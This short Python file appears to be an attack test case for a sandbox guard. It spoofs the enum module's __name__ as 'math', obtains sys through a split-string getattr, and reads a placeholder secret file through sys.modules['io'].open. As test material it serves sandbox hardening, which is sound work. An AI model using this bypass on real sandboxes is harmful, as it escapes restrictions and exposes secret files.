# attack: the guard knows a module by its __name__, which can be set: enum says that it is math, where there is no sys to refuse
# family: attribute
import enum
enum.__name__ = "math"
sys = getattr(enum, "sy" + "s")
print("REACHED", sys)
print(sys.modules["io"].open("$SECRET_FILE").read())
